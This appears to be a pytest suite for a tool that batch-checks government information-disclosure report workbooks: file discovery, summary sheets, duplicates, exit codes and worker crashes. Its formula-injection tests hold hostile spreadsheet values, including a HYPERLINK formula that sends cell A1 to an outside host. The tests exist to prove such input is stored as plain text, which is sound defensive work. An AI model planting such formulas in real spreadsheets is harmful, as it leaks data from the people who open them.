"""Checking a whole folder: discovery, one row per file, the summary workbook, workers that fail."""

from __future__ import annotations

import datetime
import hashlib
import io
import json
import multiprocessing
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
from workbooks import HUAIAN, ZHUZHOU, copy, edited

from xlreport.cli import main
from xlreport.commands.check import Progress
from xlreport.usecases import batch
from xlreport.workbook.cells import set_cell
from xlreport.workbook.writer import write_named_values

D2021, D2019 = "国办公开办函〔2021〕30号", "国办公开办函〔2019〕60号"


def _zip_with_broken_sheet(dst):
    """A workbook whose 表三 XML is nonsense: the reader raises something other than ReadError."""
    with zipfile.ZipFile(HUAIAN) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet4.xml":
                data = b"<worksheet><sheetData><row r='x'><c r='!!'><v>1</v></c></row>"
            zout.writestr(info, data)
    return dst


@pytest.fixture
def inbox(tmp_path, monkeypatch):
    """收件/: what a 政务公开办 finds in its inbox in January."""
    monkeypatch.chdir(tmp_path)
    box = tmp_path / "收件"
    (box / "乡镇").mkdir(parents=True)
    copy(HUAIAN, box / "good.xlsx")
    copy(ZHUZHOU, box / "乡镇" / "株洲.xlsx")
    edited(HUAIAN, box / "text_in_cell.xlsx", XR_T3_NEW_NATURAL="无")
    edited(HUAIAN, box / "blank_total.xlsx", XR_T3_NEW_TOTAL=None)
    edited(HUAIAN, box / "late.xlsx", XR_COVER_PUBLISHED_ON="2025年4月10日")  # a government: 3月31日
    (box / "empty.xlsx").write_bytes(b"")
    (box / "cut.xlsx").write_bytes(HUAIAN.read_bytes()[:4000])
    (box / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    (box / "notes.xlsx").write_text("机关名称,年度\n某某局,2024\n", encoding="utf-8")
    with zipfile.ZipFile(box / "docs.xlsx", "w") as z:  # a .docx renamed to .xlsx
        z.writestr("word/document.xml", "<w:document/>")
    _zip_with_broken_sheet(box / "broken_sheet.xlsx")
    # never checked: Excel's lock file, our backup, a macOS resource fork; a notice is tried and refused
    (box / "~$good.xlsx").write_bytes(b"\x0bzhangsan" + b"\0" * 100)
    copy(HUAIAN, box / "good.备份-20260120-093000.xlsx")
    (box / "._good.xlsx").write_bytes(b"\0\x05\x16\x07")
    (box / "readme.txt").write_text("各单位请于1月20日前报送", encoding="utf-8")
    return box


# (文件, 机关, 年度, 格式版本, 逾期天数, 错误数, 警告数, 状态), the other files named in 同一机关多份, and
# words of 原因, by hand from the files made above. 淮安 (a government) published 2025-02-25, before 3月31日;
# 株洲 (a department) signed 2021-01-29. good, blank_total, late and text_in_cell are four versions of 淮安's
# report; late differs from good only in its 发布日期, so their tables are the same.
HUAIAN_VERSIONS = ("收件/blank_total.xlsx", "收件/good.xlsx", "收件/late.xlsx", "收件/text_in_cell.xlsx")
SAME_TABLES = {"收件/good.xlsx", "收件/late.xlsx"}
EXPECTED_SUMMARY = [
    ("收件/blank_total.xlsx", "淮安市人民政府", 2024, D2021, 0, 1, 0, "有错误", HUAIAN_VERSIONS, ["表三!J5", "合计"]),
    ("收件/broken_sheet.xlsx", None, None, None, None, None, None, "无法读取", (), ["broken_sheet.xlsx", "工作表“表三”已损坏"]),
    ("收件/cut.xlsx", None, None, None, None, None, None, "无法读取", (), ["已损坏"]),
    ("收件/docs.xlsx", None, None, None, None, None, None, "无法读取", (), ["xl/workbook.xml"]),
    ("收件/empty.xlsx", None, None, None, None, None, None, "无法读取", (), ["0 字节"]),
    ("收件/good.xlsx", "淮安市人民政府", 2024, D2021, 0, 0, 0, "通过", HUAIAN_VERSIONS, []),
    ("收件/late.xlsx", "淮安市人民政府", 2024, D2021, 10, 0, 1, "有警告", HUAIAN_VERSIONS, ["2025年4月10日", "逾期 10 天"]),
    ("收件/notes.xlsx", None, None, None, None, None, None, "无法读取", (), ["不是 Excel 工作簿"]),
    ("收件/old.xlsx", None, None, None, None, None, None, "无法读取", (), [".xls", "另存为 .xlsx"]),
    ("收件/readme.txt", None, None, None, None, None, None, "无法读取", (), ["readme.txt", "不像政府信息公开工作年度报告"]),
    ("收件/text_in_cell.xlsx", "淮安市人民政府", 2024, D2021, 0, 1, 0, "有错误", HUAIAN_VERSIONS, ["表三!D5", "“无”"]),
    ("收件/乡镇/株洲.xlsx", "株洲市行政审批服务局", 2020, D2019, 0, 0, 2, "有警告", (), ["五、存在的主要问题及改进情况", "另有 1 项"]),
]

# (文件, 工作表, 单元格, 规则, 级别): a text cell and a blank total each break one cell and leave
# the two identities through that cell (its row's 总计, its column's 收办平衡) unchecked; the blank
# total is also the 受理 3119 件 that the narrative quotes (正文!C6), which cannot be compared either.
EXPECTED_FINDINGS = [
    ("收件/blank_total.xlsx", "表三", "J5", "TOTAL-BLANK", "错误"),
    ("收件/blank_total.xlsx", "表三", "J5", "SUM-UNCHECKED", "提示"),
    ("收件/blank_total.xlsx", "表三", "J5", "SUM-UNCHECKED", "提示"),
    ("收件/blank_total.xlsx", "正文", "C6", "TXT-UNCHECKED", "提示"),
    ("收件/late.xlsx", "封面", "B13", "DATE-LATE", "警告"),
    ("收件/text_in_cell.xlsx", "表三", "D5", "CELL-TEXT", "错误"),
    ("收件/text_in_cell.xlsx", "表三", "J5", "SUM-UNCHECKED", "提示"),
    ("收件/text_in_cell.xlsx", "表三", "D5", "SUM-UNCHECKED", "提示"),
    ("收件/乡镇/株洲.xlsx", "正文", "B18", "NARRATIVE-EMPTY", "警告"),
    ("收件/乡镇/株洲.xlsx", "正文", "B19", "NARRATIVE-EMPTY", "警告"),
]


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def sheet_rows(path, title):
    ws = openpyxl.load_workbook(path)[title]
    return [tuple(c.value for c in row) for row in ws.iter_rows()]


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_folder_of_good_broken_and_corrupt_files_gives_one_row_each(capsys, inbox, jobs):
    code, out, err = run(capsys, "check", "收件", "-o", "汇总.xlsx", "--jobs", jobs)
    assert code == 2  # some files could not be read at all
    assert "Traceback" not in out + err
    summary = sheet_rows("汇总.xlsx", "汇总")
    assert summary[0] == ("文件", "机关", "年度", "格式版本", "逾期天数", "错误数", "警告数", "状态", "同一机关多份", "原因")
    assert [r[:8] for r in summary[1:]] == [e[:8] for e in EXPECTED_SUMMARY]
    for row, expected in zip(summary[1:], EXPECTED_SUMMARY):
        others = [f for f in expected[8] if f != row[0]]
        assert (row[8] or "").count("另有 ") == len(others), row
        for other in others:
            same = "相同" if {row[0], other} == SAME_TABLES else "不同"
            assert f"另有 {other}：同一机关同一年度，统计表数字{same}（修改于 " in row[8], row
        for word in expected[9]:
            assert word in row[9], (row, word)
        assert (row[9] is None) == (expected[7] == "通过")
    findings = sheet_rows("汇总.xlsx", "问题清单")
    assert findings[0] == ("文件", "工作表", "单元格", "表/行/列", "规则", "级别", "说明", "左值", "右值", "差额")
    assert [(r[0], r[1], r[2], r[4], r[5]) for r in findings[1:]] == EXPECTED_FINDINGS
    text_cell = next(r for r in findings if r[4] == "CELL-TEXT")
    assert text_cell[3] == "表三/一、本年新收政府信息公开申请数量/自然人"
    assert "表三!D5" in text_cell[6] and "“无”" in text_cell[6]
    assert "共检查 12 个文件：通过 1，有警告 2，有错误 2，无法读取 7" in out


def test_identity_findings_carry_both_sides_and_the_difference_as_numbers(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    edited(HUAIAN, tmp_path / "flow.xlsx", XR_T3_NEW_NATURAL=3002)  # printed: 3001
    assert main(["check", "flow.xlsx", "--format", "xlsx", "-o", "s.xlsx"]) == 1
    rows = sheet_rows(tmp_path / "s.xlsx", "问题清单")
    flow = next(r for r in rows if r[4] == "T3-FLOW")
    # 淮安 printed 本年新收 3001 + 上年结转 34 = 办理结果总计 + 结转下年度 = 3035; one more typed in.
    assert (flow[1], flow[2], flow[5]) == ("表三", "D5", "错误")
    assert (flow[7], flow[8], flow[9]) == (3036, 3035, 1)


def test_summary_sheets_have_filters_frozen_headers_colours_and_widths(inbox):
    rows = batch.check_all(batch.discover(["收件"]))
    batch.write_summary(rows, inbox.parent / "s.xlsx")
    wb = openpyxl.load_workbook(inbox.parent / "s.xlsx")
    for title, coloured, last in (("汇总", "HI", "J"), ("问题清单", "F", "J")):
        ws = wb[title]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{last}{ws.max_row}"
        ranges = {str(cf.sqref) for cf in ws.conditional_formatting}
        assert ranges == {f"{col}2:{col}{ws.max_row}" for col in coloured}
        formulas = {rule.formula[0] for cf in ws.conditional_formatting for rule in cf.rules}
        assert ('"有错误"' if title == "汇总" else '"错误"') in formulas
        assert ws.column_dimensions["A"].width >= len("收件/text_in_cell.xlsx")
    assert wb.properties.title == batch.SUMMARY_TITLE


DANGEROUS = ["=1+1", '=HYPERLINK("http://example.com","点我")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", DANGEROUS + ["淮安市人民政府", "a=b"])
def test_text_that_looks_like_a_formula_is_stored_as_text(tmp_path, text):
    wb = openpyxl.Workbook()
    set_cell(wb.active, 1, 1, text)
    wb.save(tmp_path / "t.xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert cell.value == text and cell.data_type == "s"
    assert cell.quotePrefix is (text in DANGEROUS)


def test_a_hostile_agency_name_reaches_the_summary_as_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    evil = '=HYPERLINK("http://example.com/?"&A1,"点击查看")'
    write_named_values(HUAIAN, tmp_path / "evil.xlsx", {"XR_COVER_AGENCY": evil})  # text, as typed after '
    assert main(["check", "evil.xlsx", "--format", "xlsx", "-o", "s.xlsx"]) == 0
    with zipfile.ZipFile(tmp_path / "s.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    cell = openpyxl.load_workbook(tmp_path / "s.xlsx")["汇总"]["B2"]
    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix


def test_the_summary_never_replaces_a_file(capsys, inbox):
    before = (inbox / "good.xlsx").read_bytes()
    code, _, err = run(capsys, "check", "收件", "-o", "收件/good.xlsx")
    assert code == 2 and "不会覆盖" in err
    assert (inbox / "good.xlsx").read_bytes() == before
    code, _, err = run(capsys, "check", "收件", "-o", "汇总.txt")
    assert code == 2 and ".xlsx" in err


def test_a_summary_saved_inside_the_folder_is_not_checked_next_time(capsys, inbox):
    assert run(capsys, "check", "收件/good.xlsx", "-o", "收件/校验汇总.xlsx")[0] == 0
    code, out, _ = run(capsys, "check", "收件", "--format", "json")
    files = [r["file"] for r in json.loads(out)]
    assert "收件/校验汇总.xlsx" not in files and len(files) == len(EXPECTED_SUMMARY)


def test_format_xlsx_without_output_writes_a_dated_summary_in_the_current_folder(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    copy(HUAIAN, tmp_path / "a.xlsx")
    code, out, _ = run(capsys, "check", "a.xlsx", "--format", "xlsx")
    (summary,) = tmp_path.glob("校验汇总-*.xlsx")
    assert code == 0 and summary.name in out
    assert sheet_rows(summary, "汇总")[1][:8] == ("a.xlsx", "淮安市人民政府", 2024, D2021, 0, 0, 0, "通过")


def test_json_for_a_folder_is_a_list_in_the_single_file_shape(capsys, inbox):
    code, out, _ = run(capsys, "check", "收件", "--format", "json")
    data = json.loads(out)
    assert code == 2 and [r["file"] for r in data] == [e[0] for e in EXPECTED_SUMMARY]
    good = data[[r["file"] for r in data].index("收件/good.xlsx")]
    fingerprint, duplicates = good.pop("fingerprint"), good.pop("duplicates")
    assert good == {"file": "收件/good.xlsx", "agency": "淮安市人民政府", "year": 2024, "form_version": "2021",
                    "days_late": 0, "findings": []}
    assert data[[r["file"] for r in data].index("收件/late.xlsx")]["days_late"] == 10
    assert fingerprint["sha256"] == hashlib.sha256((inbox / "good.xlsx").read_bytes()).hexdigest()
    assert fingerprint["modified"] == datetime.datetime.fromtimestamp(os.stat(inbox / "good.xlsx").st_mtime).isoformat(timespec="seconds")
    assert fingerprint["tables_nonzero"] >= 5 and len(fingerprint["tables_sha256"]) == 64
    assert [d["file"] for d in duplicates] == ["收件/blank_total.xlsx", "收件/late.xlsx", "收件/text_in_cell.xlsx"]
    empty = data[[r["file"] for r in data].index("收件/empty.xlsx")]
    assert set(empty) == {"file", "error", "findings"} and "0 字节" in empty["error"]


@pytest.mark.parametrize(
    "files, code",
    [(["good.xlsx"], 0), (["good.xlsx", "乡镇"], 0), (["good.xlsx", "text_in_cell.xlsx"], 1), (["good.xlsx", "empty.xlsx"], 2),
     (["text_in_cell.xlsx", "empty.xlsx"], 2), (["empty.xlsx", "text_in_cell.xlsx"], 2)],
)
def test_exit_code_is_the_worst_finding(capsys, inbox, files, code):
    assert run(capsys, "check", *[inbox / f for f in files])[0] == code


def test_help_documents_the_exit_codes(capsys):
    with pytest.raises(SystemExit):
        main(["check", "-h"])
    out = capsys.readouterr().out
    assert "退出码" in out and "1 至少一个文件有错误" in out and "2 至少一个文件无法读取" in out


def test_an_empty_folder_is_a_usage_error(capsys, tmp_path):
    (tmp_path / "空").mkdir()
    code, _, err = run(capsys, "check", tmp_path / "空")
    assert code == 2 and "没有找到工作簿" in err


# --- one agency's report twice -------------------------------------------------------------

PUBLISHED_HUAIAN = "2024_huaian_shi_renmin_zhengfu.txt"  # 淮安's published text of the example's report


@pytest.fixture
def resubmitted(tmp_path, monkeypatch):
    """报送/: a resubmission beside the first, a copy in a subfolder, a published report beside its workbook."""
    from conftest import REAL_REPORTS

    monkeypatch.chdir(tmp_path)
    box = tmp_path / "报送"
    (box / "备份").mkdir(parents=True)
    edited(HUAIAN, box / "财政局.xlsx", XR_COVER_AGENCY="某某县财政局", XR_T2_ITEM6_PENALTY_DECISIONS=10)
    edited(HUAIAN, box / "财政局-改.xlsx", XR_COVER_AGENCY="某某县 财政局", XR_T2_ITEM6_PENALTY_DECISIONS=12)
    edited(HUAIAN, box / "税务局.xlsx", XR_COVER_AGENCY="某某县税务局", XR_T2_ITEM6_PENALTY_DECISIONS=20)
    copy(box / "税务局.xlsx", box / "备份" / "税务局.xlsx")
    copy(HUAIAN, box / "淮安.xlsx")
    copy(REAL_REPORTS / PUBLISHED_HUAIAN, box / "淮安.txt")
    edited(HUAIAN, box / "住建局.xlsx", XR_COVER_AGENCY="某某县住建局", XR_T2_ITEM6_PENALTY_DECISIONS=30)
    return box


# file → (the other files, why), by hand from the folder above
EXPECTED_DUPLICATES = {
    "报送/住建局.xlsx": [],
    "报送/备份/税务局.xlsx": [("报送/税务局.xlsx", "文件完全相同")],
    "报送/淮安.txt": [("报送/淮安.xlsx", "同一机关同一年度")],
    "报送/淮安.xlsx": [("报送/淮安.txt", "同一机关同一年度")],
    "报送/税务局.xlsx": [("报送/备份/税务局.xlsx", "文件完全相同")],
    "报送/财政局-改.xlsx": [("报送/财政局.xlsx", "同一机关同一年度，统计表数字不同")],
    "报送/财政局.xlsx": [("报送/财政局-改.xlsx", "同一机关同一年度，统计表数字不同")],
}


@pytest.mark.parametrize("jobs", [1, 2])
def test_the_summary_names_every_file_that_counts_an_agency_twice(capsys, resubmitted, jobs):
    code, out, _ = run(capsys, "check", "报送", "-o", "汇总.xlsx", "--jobs", jobs)
    rows = {r[0]: r for r in sheet_rows("汇总.xlsx", "汇总")[1:]}
    assert sorted(rows) == sorted(EXPECTED_DUPLICATES)
    for file, others in EXPECTED_DUPLICATES.items():
        note = rows[file][8]
        assert (note or "").count("另有 ") == len(others), note
        for other, why in others:
            assert f"另有 {other}：{why}" in note and "（修改于 20" in note
    assert code == 0 and {r[7] for r in rows.values()} <= {"通过", "有警告"}  # resubmitting is no error of the file
    assert "同一机关多份" in out
    assert "  某某县 财政局 2024 年度，2 份：\n    报送/财政局-改.xlsx（修改于 " in out
    assert "    报送/财政局.xlsx（某某县财政局，修改于 " in out and "——与 报送/财政局-改.xlsx：" in out


def test_json_rows_list_the_other_copies(capsys, resubmitted):
    _, out, _ = run(capsys, "check", "报送", "--format", "json")
    rows = {r["file"]: r for r in json.loads(out)}
    for file, others in EXPECTED_DUPLICATES.items():
        got = [(d["file"], d["why"]) for d in rows[file].get("duplicates", [])]
        assert [f for f, _ in got] == [f for f, _ in others]
        assert all(why.startswith(expected) for (_, why), (_, expected) in zip(got, others))
    assert rows["报送/税务局.xlsx"]["fingerprint"]["sha256"] == rows["报送/备份/税务局.xlsx"]["fingerprint"]["sha256"]


def test_a_workbook_and_the_reports_built_beside_it_are_one_agency_three_times(capsys, tmp_path, monkeypatch):
    """xlreport build writes .docx and .html next to the workbook: a folder holding all three counts 淮安 thrice."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "报送").mkdir()
    copy(HUAIAN, tmp_path / "报送" / "淮安.xlsx")
    assert main(["build", "报送/淮安.xlsx", "--docx", "--html"]) == 0
    capsys.readouterr()
    rows = {r["file"]: r for r in batch.check_all(batch.discover(["报送"]))}
    assert sorted(rows) == ["报送/淮安.docx", "报送/淮安.html", "报送/淮安.xlsx"]
    for file, row in rows.items():
        others = sorted(d["file"] for d in row["duplicates"])
        assert others == sorted(set(rows) - {file})
        assert all(d["why"].startswith("同一机关同一年度") for d in row["duplicates"])


def test_a_folder_of_different_agencies_has_no_duplicates(capsys, inbox):
    os.remove("收件/late.xlsx")  # good's tables: another agency name would not make it another report
    for name in ("收件/blank_total.xlsx", "收件/text_in_cell.xlsx"):  # not 淮安 any more
        write_named_values(Path(name), Path(f"{name}.other.xlsx"), {"XR_COVER_AGENCY": name})
        os.replace(f"{name}.other.xlsx", name)
    code, out, _ = run(capsys, "check", "收件", "-o", "汇总.xlsx")
    assert all(r[8] is None for r in sheet_rows("汇总.xlsx", "汇总")[1:])
    assert "同一机关多份" not in out


# --- discovery ----------------------------------------------------------------------


def test_discovery_walks_subfolders_and_skips_lock_backup_hidden_and_other_files(inbox):
    names = [p.relative_to("收件").as_posix() for p in batch.discover(["收件"])]
    assert names == [e[0].removeprefix("收件/") for e in EXPECTED_SUMMARY]


def test_named_files_are_kept_as_named_and_nothing_is_checked_twice(inbox):
    found = batch.discover(["收件/good.xlsx", "收件/good.备份-20260120-093000.xlsx", "收件", "收件/good.xlsx"])
    names = [p.as_posix() for p in found]
    assert names[:2] == ["收件/good.xlsx", "收件/good.备份-20260120-093000.xlsx"]
    assert names.count("收件/good.xlsx") == 1 and len(names) == len(EXPECTED_SUMMARY) + 1


def test_published_reports_in_the_folder_are_checked_through_the_importer(inbox):
    from conftest import SEED

    copy(SEED, inbox / "株洲2020.txt")
    rows = batch.check_all(batch.discover(["收件"]))
    (imported,) = [r for r in rows if r["file"].endswith("株洲2020.txt")]
    assert (imported["agency"], imported["year"], imported["form_version"]) == ("株洲市行政审批服务局", 2020, "2019")
    assert batch.status(imported) != batch.UNREADABLE


# --- workers ------------------------------------------------------------------------


def test_parallel_and_sequential_checks_give_the_same_rows_in_the_same_order(inbox):
    paths = batch.discover(["收件"]) * 3  # the same files named again: checked again, in order
    one = batch.check_all(paths, jobs=1)
    two = batch.check_all(paths, jobs=2, chunksize=2)
    assert one == two and [r["file"] for r in one] == [str(p) for p in paths]


@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="the crash is patched into forked workers")
def test_a_worker_that_dies_costs_only_its_own_file(inbox, monkeypatch):
    real = batch.load

    def crashing(path, engine="calamine"):
        if path.name == "good.xlsx":
            os._exit(3)  # what a segfault in a native reader looks like to the pool
        return real(path, engine)

    monkeypatch.setattr(batch, "load", crashing)
    rows = batch.check_all(batch.discover(["收件"]), jobs=2, chunksize=2)
    assert [r["file"] for r in rows] == [e[0] for e in EXPECTED_SUMMARY]
    by_file = {r["file"]: r for r in rows}
    assert "异常退出" in by_file["收件/good.xlsx"]["error"]
    assert batch.status(by_file["收件/乡镇/株洲.xlsx"]) == "有警告"
    assert batch.status(by_file["收件/text_in_cell.xlsx"]) == "有错误"


def test_any_exception_while_reading_becomes_the_files_reason(tmp_path, monkeypatch):
    monkeypatch.setattr(batch, "load", lambda path, engine: 1 / 0)
    (row,) = batch.check_all([tmp_path / "x.xlsx"])
    assert batch.status(row) == "无法读取" and "ZeroDivisionError" in row["error"]


# --- progress -----------------------------------------------------------------------


class Tty(io.StringIO):
    def isatty(self):
        return True


def test_progress_is_drawn_only_on_a_terminal():
    quiet, tty = io.StringIO(), Tty()
    for stream in (quiet, tty):
        bar = Progress(10, stream)
        for i in range(1, 11):
            bar(i, 10)
        bar.close()
    assert quiet.getvalue() == ""
    assert "检查中" in tty.getvalue() and "10/10" in tty.getvalue() and tty.getvalue().endswith("\r")


def test_progress_does_not_reach_a_redirected_stderr(capsys, inbox):
    _, out, err = run(capsys, "check", "收件", "--format", "json")
    assert "检查中" not in out + err
